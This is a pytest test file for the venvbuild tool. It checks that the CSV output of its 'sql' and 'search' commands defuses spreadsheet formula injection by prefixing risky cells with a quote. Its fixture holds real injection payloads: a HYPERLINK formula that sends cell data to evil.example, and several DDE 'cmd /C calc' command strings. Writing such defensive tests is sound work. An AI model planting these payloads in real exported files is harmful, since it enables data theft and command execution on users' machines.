"""CSV cannot drive a spreadsheet: `sql --csv` and `search --csv` write text cells that start a formula
(=, +, -, @, tab, CR) with a quote in front, and leave numbers and ordinary text as they are."""

import csv
import io

import pytest

from tests._support.cli import run_cli as run
from tests._support.records import make_build_dir
from venvbuild.build import publish
from venvbuild.query import output
from venvbuild.store.local import LocalStore

FORMULAS = {
    "build_url": '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "git_commit": "=cmd|' /C calc'!A0",
    "platform": "+1+cmd|' /C calc'!A0",
    "python_home": "-2+3",
    "venvbuild_version": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def store(tmp_path, capsys):
    store = LocalStore(tmp_path / "store")
    publish.publish(
        make_build_dir(
            tmp_path / "builds",
            "venv_20250101_100000",
            conflicts=["\tinjected", "\r=1+1"],
            installed_packages=["six==1.0"],
            **FORMULAS,
        ),
        store,
    )
    capsys.readouterr()
    return tmp_path / "store"


def read(out):
    return list(csv.reader(io.StringIO(out, newline="")))


def test_sql_csv_defuses_formulas_in_free_text_fields(capsys, store):
    columns = ", ".join(FORMULAS)
    code, out, err = run(
        capsys,
        "sql",
        f"SELECT {columns}, conflicts[1] AS tab, conflicts[2] AS cr, -7 AS n, "
        "archive_size, 'plain' AS t FROM venv_builds_metadata",
        "--csv",
        "--store",
        store,
    )
    assert code == 0, err
    rows = read(out)
    assert rows[0] == [*FORMULAS, "tab", "cr", "n", "archive_size", "t"]
    assert rows[1] == ["'" + v for v in FORMULAS.values()] + ["'\tinjected", "'\r=1+1", "-7", "7", "plain"]


def test_column_names_and_search_csv_go_through_the_same_guard(capsys, store):
    code, out, _ = run(capsys, "sql", 'SELECT 1 AS "=1+1"', "--csv", "--store", store)
    assert code == 0 and read(out) == [["'=1+1"], ["1"]], "a column name is a cell as well"
    code, out, _ = run(capsys, "search", "six", "--csv", "--store", store)
    assert code == 0 and read(out)[1][4] == "six==1.0"


def test_every_formula_start_gets_a_quote_and_nothing_else_does():
    for start in "=+-@\t\r":
        assert output.spreadsheet_text(start + "1") == "'" + start + "1"
    for text in ("", "1-2", "a=b", " =1", "'=1", "kedro==0.19"):
        assert output.spreadsheet_text(text) == text
